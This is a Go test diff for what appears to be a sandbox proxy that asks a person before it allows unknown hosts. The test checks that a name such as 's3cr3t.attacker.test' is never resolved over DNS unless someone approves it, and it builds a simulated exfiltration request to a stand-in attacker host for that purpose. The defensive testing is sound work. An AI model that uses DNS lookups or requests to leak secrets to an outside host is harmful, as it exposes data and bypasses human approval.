@@ -401,3 +401,56 @@ func TestAskRawStream(t *testing.T) {
 	default:
 	}
 }
+
+// TestAskResolvesAfterAnswer: an asked name is resolved on the host only
+// once a person allowed it. A jailed command that asks for
+// "<secret>.attacker.example" must not get the lookup, which carries the
+// name to the attacker's DNS server, for free: a denied one is never
+// resolved.
+func TestAskResolvesAfterAnswer(t *testing.T) {
+	t.Parallel()
+	up := newUpstream(t, nil, nil)
+	a := newAsker()
+	var mu sync.Mutex
+	var looked []string
+	upIP, upPort, _ := net.SplitHostPort(up.addr())
+	e := newEnv(t, Config{
+		Rules: Rules{Unknown: "ask"},
+		Ask:   a.ask,
+		Resolver: func(ctx context.Context, host string) ([]net.IP, error) {
+			mu.Lock()
+			looked = append(looked, host)
+			mu.Unlock()
+			return []net.IP{net.ParseIP(upIP)}, nil
+		},
+	})
+	lookups := func() []string { mu.Lock(); defer mu.Unlock(); return append([]string(nil), looked...) }
+	req := func(name string) chan int {
+		ch := make(chan int, 1)
+		go func() {
+			resp, _, _, _ := raw(t, e.httpAddr, "GET http://"+name+":"+upPort+"/ HTTP/1.1\r\nHost: "+name+":"+upPort+"\r\n\r\n")
+			ch <- resp.StatusCode
+		}()
+		return ch
+	}
+	denied := req("s3cr3t.attacker.test")
+	a.question(t)
+	time.Sleep(50 * time.Millisecond)
+	if got := lookups(); len(got) != 0 {
+		t.Fatalf("resolved %q while the question was open", got)
+	}
+	a.answers <- Verdict{Rule: "ask once", Reason: "jail reject"}
+	if code := <-denied; code != 403 {
+		t.Errorf("denied name: status %d, want 403", code)
+	}
+	if got := lookups(); len(got) != 0 {
+		t.Fatalf("a name nobody allowed was resolved: %q", got)
+	}
+	allowed := req("fine.attacker.test")
+	a.question(t)
+	a.answers <- Verdict{Allow: true, Rule: "ask once", Reason: "jail approve"}
+	<-allowed
+	if got := lookups(); len(got) != 1 || got[0] != "fine.attacker.test" {
+		t.Errorf("lookups after an allow: %q, want the allowed name once", got)
+	}
+}
